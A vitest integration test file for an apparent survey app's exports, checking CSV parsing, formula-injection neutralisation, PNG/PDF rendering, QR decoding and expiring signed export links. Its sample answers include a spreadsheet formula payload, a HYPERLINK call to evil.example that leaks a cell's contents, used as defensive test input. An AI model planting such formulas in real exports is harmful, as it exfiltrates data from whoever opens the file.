import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import jsQRModule from 'jsqr';
import { PNG } from 'pngjs';
import { Resvg } from '@resvg/resvg-js';
import { parse as parseDisposition } from 'content-disposition';
import { createTestApp, type TestApp, type TestKey } from '../helpers/test-app.ts';
import { listen, call } from '../helpers/real-http.ts';
import { answer, ask, choiceDraft, errorOf, fundedKey, NO_RATE_LIMITS, seedHeads, sleep, type Head, type Json } from '../helpers/questions.ts';
import { CSV_COLUMNS } from '../../src/modules/exports/answers-csv.ts';
import { distinctColours, inspectPdf } from '../../src/modules/exports/render/image-probe.fixture.ts';

/**
 * Exports as a user takes them out (docs/exports.md): the CSV read by an independent parser
 * (papaparse) over a real socket, with the result's filters and formula injection neutralised;
 * export links used without signing in within the hour and refused after it; the QR codes
 * decoded by an independent decoder (jsQR) to the answer link. Every response is checked against
 * /openapi.json by the test app.
 */
// jsqr is CommonJS with `exports.default`: under Node's ESM loader the default import is the module object.
const jsQR = jsQRModule.default;

const BASE = 'https://headcount.test';
let t: TestApp;
let key: TestKey;
let other: TestKey;
let heads: Head[];
let base: string;
let nextHead = 0;

const take = (count: number) => {
  const chosen = heads.slice(nextHead, nextHead + count);
  nextHead += count;
  if (chosen.length < count) throw new Error('not enough heads');
  return chosen;
};

beforeAll(async () => {
  t = await createTestApp({ env: { ...NO_RATE_LIMITS, PUBLIC_BASE_URL: BASE } });
  heads = await seedHeads(t, 300);
  key = await fundedKey(t, 1_000_000);
  other = await fundedKey(t, 1_000_000);
  base = await listen(t.app);
}, 120_000);
afterAll(async () => {
  await Promise.race([t?.close(), sleep(5_000)]);
});

/** The CSV as a spreadsheet or a script reads it. */
function readCsv(body: string) {
  expect(body.charCodeAt(0), 'a byte order mark first').toBe(0xfeff);
  const parsed = Papa.parse<Record<string, string>>(body.slice(1), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return { header: parsed.meta.fields, rows: parsed.data };
}

const REASONS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed',
  '\r\nCarriage',
  'Plain, with a comma and "quotes"\nand a second line',
  'पैसे बचाने के लिए आसान नाम',
  'Café crème',
  'A 100% fine reason',
];

describe('GET /v2/questions/{id}/export.csv', () => {
  let questionId: string;
  let group: Head[];

  beforeAll(async () => {
    const question = await ask(t, key, choiceDraft({ text: 'Which name is best: "Penny" / Pocket?', n: 40, reason: 'optional' }));
    questionId = question.id as string;
    group = take(30);
    for (const [i, head] of group.entries()) {
      const outcome = await answer(t, questionId, head, { option: i % 3 === 0 ? 1 : 0, reason: REASONS[i % REASONS.length] });
      expect(outcome.accepted, JSON.stringify(outcome)).toBe(true);
    }
  }, 60_000);

  it('is every answer, RFC 4180 with a BOM, read by an independent parser, streamed over a real socket', async () => {
    const response = await call(base, `/v2/questions/${questionId}/export.csv`, { headers: key.auth });
    expect(response.status, response.body.slice(0, 300)).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers['transfer-encoding'], 'streamed, not sent as one buffer').toBe('chunked');
    expect(response.headers['cache-control']).toBe('private, no-store');
    const disposition = parseDisposition(response.headers['content-disposition']!);
    expect(disposition.type).toBe('attachment');
    expect(disposition.parameters.filename).toBe('Which name is best Penny Pocket.csv');
    // Records end in CRLF, and the quoted line break inside a reason is kept.
    expect(response.body.split('\r\n')[0]).toBe(`\ufeff${CSV_COLUMNS.join(',')}`);

    const { header, rows } = readCsv(response.body);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(30);
    const answers = await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/answers?limit=200`, headers: key.auth });
    const listed = answers.json().answers as Json[];
    // Oldest first: the reverse of the answers list (newest first), and the same answers.
    expect(rows.map((r) => r.attestation_ref)).toEqual(listed.map((a) => a.attestationRef).reverse());
    const penny = rows.filter((r) => r.option === 'Penny');
    expect(penny).toHaveLength(20);
    expect(penny.every((r) => r.option_index === '0')).toBe(true);
    for (const row of rows) {
      expect(row.tier).toMatch(/^[123]$/);
      expect(new Date(row.answered_at).toISOString()).toBe(row.answered_at);
      expect(row.simulated, 'the simulated panel is labelled').toBe('true');
      expect(row.pinned).toBe('false');
    }
  });

  it('neutralises cells a spreadsheet would run as a formula, and keeps every other text exactly', async () => {
    const response = await call(base, `/v2/questions/${questionId}/export.csv`, { headers: key.auth });
    const reasons = new Set(readCsv(response.body).rows.map((r) => r.reason));
    expect(reasons).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`);
    expect(reasons).toContain("'+1+2");
    expect(reasons).toContain("'-2+3");
    expect(reasons).toContain("'@SUM(A1:A9)");
    // Answers are stored trimmed, so a leading tab or CR cannot reach a cell through an answer (the unit test covers them).
    expect(reasons).toContain('Tabbed');
    expect(reasons).toContain('Carriage');
    for (const kept of REASONS.slice(6)) expect(reasons).toContain(kept);
    // No cell at all begins with a formula character.
    for (const row of readCsv(response.body).rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('applies the result\'s filters: option, tier, q; a suppressed country gives the header alone', async () => {
    const pocket = readCsv((await call(base, `/v2/questions/${questionId}/export.csv?option=1`, { headers: key.auth })).body).rows;
    expect(pocket).toHaveLength(10);
    expect(pocket.every((r) => r.option === 'Pocket')).toBe(true);

    const tier = group[0].tier;
    const byTier = readCsv((await call(base, `/v2/questions/${questionId}/export.csv?tier=${tier}`, { headers: key.auth })).body).rows;
    expect(byTier).toHaveLength(group.filter((h) => h.tier === tier).length);

    const cafe = readCsv((await call(base, `/v2/questions/${questionId}/export.csv?q=caf%C3%A9`, { headers: key.auth })).body).rows;
    expect(cafe.length).toBe(3);
    expect(cafe.every((r) => r.reason === 'Café crème')).toBe(true);

    const counts = new Map<string, number>();
    for (const h of group) counts.set(h.country, (counts.get(h.country) ?? 0) + 1);
    const rare = [...counts.entries()].find(([, n]) => n < 5)?.[0] ?? 'ZZ';
    const suppressed = await call(base, `/v2/questions/${questionId}/export.csv?country=${rare}`, { headers: key.auth });
    expect(suppressed.status).toBe(200);
    expect(readCsv(suppressed.body).rows).toEqual([]);
  });

  it('multi choice, ranking and click tests fill `options` and `taps`', async () => {
    const multi = await ask(t, key, { type: 'multi_choice', text: 'Which do you use?', options: [{ label: 'Email' }, { label: 'Chat' }, { label: 'Phone' }], n: 10 });
    await answer(t, multi.id as string, take(1)[0], { options: [0, 2] });
    expect(readCsv((await call(base, `/v2/questions/${multi.id}/export.csv`, { headers: key.auth })).body).rows[0]).toMatchObject({ options: 'Email | Phone', options_indexes: '0 2' });

    const ranking = await ask(t, key, { type: 'ranking', text: 'Order these', options: [{ label: 'A' }, { label: 'B' }, { label: 'C' }], n: 10 });
    await answer(t, ranking.id as string, take(1)[0], { order: [2, 0, 1] });
    expect(readCsv((await call(base, `/v2/questions/${ranking.id}/export.csv`, { headers: key.auth })).body).rows[0]).toMatchObject({ option: 'C', options: 'C > A > B', options_indexes: '2 0 1' });

    const click = await ask(t, key, { type: 'click_test', text: 'Where would you sign up?', stimulus: { imageUrl: 'https://img.example.com/home.png' }, clickTest: { maxTaps: 2 }, n: 10 });
    await answer(t, click.id as string, take(1)[0], { taps: [{ x: 0.25, y: 0.4 }, { x: 0.6, y: 0.1 }] });
    expect(readCsv((await call(base, `/v2/questions/${click.id}/export.csv`, { headers: key.auth })).body).rows[0]).toMatchObject({
      taps: '0.250 0.400; 0.600 0.100',
      tap_count: '2',
      option: '',
    });
  });

  it('needs the key of the question\'s account; bad filters are a 400 in the envelope', async () => {
    expect((await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/export.csv` })).statusCode).toBe(401);
    const foreign = await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/export.csv`, headers: other.auth });
    expect(foreign.statusCode).toBe(404);
    expect(errorOf(foreign).code).toBe('not_found');
    const badOption = await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/export.csv?option=7`, headers: key.auth });
    expect(badOption.statusCode).toBe(400);
    expect(errorOf(badOption).code).toBe('validation_failed');
    const unknown = await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/export.csv?colour=red`, headers: key.auth });
    expect(unknown.statusCode).toBe(400);
  });
});

describe('GET export.png and export.pdf', () => {
  let questionId: string;
  beforeAll(async () => {
    const question = await ask(t, key, choiceDraft({ text: 'Which name is best for a savings app?', n: 12, reason: 'optional' }));
    questionId = question.id as string;
    const group = take(10);
    for (const [i, head] of group.entries()) await answer(t, questionId, head, { option: i < 7 ? 0 : 1, reason: `Reason number ${i}` });
    const answers = (await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/answers?limit=200`, headers: key.auth })).json().answers as Json[];
    const oldest = answers.at(-1)!;
    const pinned = await t.inject({ method: 'POST', url: `/v2/questions/${questionId}/answers/${oldest.attestationRef}/pin`, headers: key.auth, payload: { pinned: true } });
    expect(pinned.statusCode, pinned.body).toBe(200);
  }, 60_000);

  it('the PNG at each size, over a real socket, decodes to the size asked for and is drawn', async () => {
    for (const [size, width, height] of [['', 1080, 1080], ['?size=square', 1080, 1080], ['?size=wide', 1200, 675], ['?size=story', 1080, 1920]] as const) {
      const response = await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/export.png${size}`, headers: key.auth });
      expect(response.statusCode, response.body.slice(0, 200)).toBe(200);
      expect(response.headers['content-type']).toBe('image/png');
      expect(parseDisposition(response.headers['content-disposition'] as string).parameters.filename).toBe(`Which name is best for a savings app (${size ? size.slice(6) : 'square'}).png`);
      const png = PNG.sync.read(response.rawPayload);
      expect([png.width, png.height], size).toEqual([width, height]);
      expect(distinctColours(png), 'a chart, not a blank picture').toBeGreaterThan(50);
    }
    const bad = await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/export.png?size=huge`, headers: key.auth });
    expect(bad.statusCode).toBe(400);
  });

  it('the PDF is one page with the question, what it means, the pinned answer first and the verification line', async () => {
    const response = await call(base, `/v2/questions/${questionId}/export.pdf`, { headers: key.auth });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    const bytes = await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/export.pdf`, headers: key.auth });
    const { info, text } = inspectPdf(bytes.rawPayload);
    expect(info).toMatch(/Pages:\s+1\n/);
    expect(info).toMatch(/Title:\s+Which name is best for a savings app\?/);
    const flat = text.replace(/\s+/g, ' ');
    expect(flat).toContain('Which name is best for a savings app?');
    const { result } = (await t.inject({ method: 'GET', url: `/v2/questions/${questionId}/result`, headers: key.auth })).json();
    expect(flat).toContain(result.verificationLine.replace(/\s+/g, ' '));
    expect(flat).toContain('Reason number 0');
    // The pinned (oldest) answer comes before the newest.
    expect(flat.indexOf('Reason number 0')).toBeLessThan(flat.indexOf('Reason number 9'));
  });
});

describe('QR codes of the answer link', () => {
  let question: Json;
  beforeAll(async () => {
    question = await ask(t, key, choiceDraft());
  });

  /**
   * Decodes a PNG with jsQR, and measures the quiet zone: the first dark pixel on the diagonal is
   * the top-left finder pattern's corner, so with a quiet zone of 4 modules the picture is
   * 4 × width / first modules across, which must be the code's 17 + 4 × version plus 8.
   */
  function decodeQr(png: PNG) {
    const code = jsQR(new Uint8ClampedArray(png.data), png.width, png.height);
    expect(code, 'jsQR found a code').not.toBeNull();
    let first = 0;
    while (png.data[(first * png.width + first) * 4] > 128) first++;
    const across = (4 * png.width) / first;
    expect(Math.abs(across - (17 + 4 * code!.version + 8)), `quiet zone of 4 modules (${across} modules across, version ${code!.version})`).toBeLessThan(0.5);
    return code!.data;
  }

  it('qr.png: 1024 px, decodes to the answer link, a quiet zone of four modules', async () => {
    const response = await call(base, `/v2/questions/${question.id}/link/qr.png`, { headers: key.auth });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('image/png');
    expect(response.headers['cache-control']).toBe('private, no-store');
    expect(parseDisposition(response.headers['content-disposition']!).parameters.filename).toBe('Which name is best for a savings app (QR code).png');
    const bytes = await t.inject({ method: 'GET', url: `/v2/questions/${question.id}/link/qr.png`, headers: key.auth });
    const png = PNG.sync.read(bytes.rawPayload);
    expect([png.width, png.height]).toEqual([1024, 1024]);
    const text = decodeQr(png);
    expect(text).toBe(question.linkUrl);
    expect(text).toBe(`${BASE}/a/${question.linkCode}`);
  });

  it('qr.svg: an SVG that, drawn, decodes to the same link with the same quiet zone', async () => {
    const response = await t.inject({ method: 'GET', url: `/v2/questions/${question.id}/link/qr.svg`, headers: key.auth });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^image\/svg\+xml/);
    expect(response.body).toMatch(/^<svg /);
    const png = PNG.sync.read(new Resvg(response.body, { fitTo: { mode: 'width', value: 800 }, background: 'white' }).render().asPng());
    expect(decodeQr(png)).toBe(question.linkUrl);
  });

  it('another account\'s question is a 404; no key is a 401', async () => {
    expect((await t.inject({ method: 'GET', url: `/v2/questions/${question.id}/link/qr.png`, headers: other.auth })).statusCode).toBe(404);
    expect((await t.inject({ method: 'GET', url: `/v2/questions/${question.id}/link/qr.svg` })).statusCode).toBe(401);
  });
});

describe('export links', () => {
  let questionId: string;
  beforeAll(async () => {
    const question = await ask(t, key, choiceDraft({ text: 'Qué nombre prefieres?', language: 'es', n: 20 }));
    questionId = question.id as string;
    for (const [i, head] of take(8).entries()) await answer(t, questionId, head, { option: i % 4 === 0 ? 1 : 0 });
  }, 60_000);

  const create = (body: Json, as: TestKey = key) => t.inject({ method: 'POST', url: `/v2/questions/${questionId}/exports`, headers: as.auth, payload: body });

  it('a PDF link opens without signing in for an hour, then says it expired', async () => {
    const created = await create({ format: 'pdf' });
    expect(created.statusCode, created.body).toBe(201);
    const link = created.json().export;
    expect(link).toMatchObject({ format: 'pdf', size: null, filename: 'Qué nombre prefieres.pdf' });
    expect(Date.parse(link.expiresAt) - t.clock.now().getTime()).toBe(3_600_000);
    expect(link.url.startsWith(`${BASE}/v1/public/exports/`)).toBe(true);

    const opened = await call(base, link.url.slice(BASE.length));
    expect(opened.status).toBe(200);
    expect(opened.headers['content-type']).toBe('application/pdf');
    expect(opened.headers['cache-control']).toMatch(/no-store/);
    expect(opened.headers['x-robots-tag']).toBe('noindex');
    expect(parseDisposition(opened.headers['content-disposition']!).parameters.filename).toBe('Qué nombre prefieres.pdf');
    expect(opened.body.startsWith('%PDF-')).toBe(true);

    t.clock.advance(3_600_000 - 1_000);
    expect((await call(base, link.url.slice(BASE.length))).status, 'still open a second before the hour').toBe(200);
    t.clock.advance(1_000);
    const expired = await t.inject({ method: 'GET', url: link.url.slice(BASE.length) });
    expect(expired.statusCode).toBe(410);
    expect(errorOf(expired).code).toBe('link_expired');
  });

  it('a PNG link has its size; tampered or made-up tokens are a 404, and the expiry cannot be moved', async () => {
    const link = (await create({ format: 'png', size: 'story' })).json().export;
    expect(link).toMatchObject({ format: 'png', size: 'story', filename: 'Qué nombre prefieres (story).png' });
    const opened = await t.inject({ method: 'GET', url: link.url.slice(BASE.length) });
    expect(opened.statusCode).toBe(200);
    const png = PNG.sync.read(opened.rawPayload);
    expect([png.width, png.height]).toEqual([1080, 1920]);

    const token = link.url.split('/').pop() as string;
    const [body, signature] = token.split('.');
    const payload = JSON.parse(Buffer.from(body, 'base64url').toString());
    const extended = Buffer.from(JSON.stringify({ ...payload, e: payload.e + 86_400 })).toString('base64url');
    for (const bad of [`${extended}.${signature}`, `${body}.${'A'.repeat(43)}`, 'abc.def', `${body}x.${signature}`]) {
      const response = await t.inject({ method: 'GET', url: `/v1/public/exports/${bad}` });
      expect(response.statusCode, bad).toBe(404);
      expect(errorOf(response).code).toBe('not_found');
    }
    const defaultSize = (await create({ format: 'png' })).json().export;
    expect(defaultSize.size).toBe('square');
  });

  it('refuses a size for a PDF, an unknown format, another account\'s question', async () => {
    const pdfSize = await create({ format: 'pdf', size: 'wide' });
    expect(pdfSize.statusCode).toBe(400);
    expect(errorOf(pdfSize).details.validation[0]).toMatchObject({ field: 'size', code: 'not_allowed' });
    expect((await create({ format: 'gif' })).statusCode).toBe(400);
    expect((await create({ format: 'png', size: 'huge' })).statusCode).toBe(400);
    expect((await create({})).statusCode).toBe(400);
    expect((await create({ format: 'pdf' }, other)).statusCode).toBe(404);
  });
});
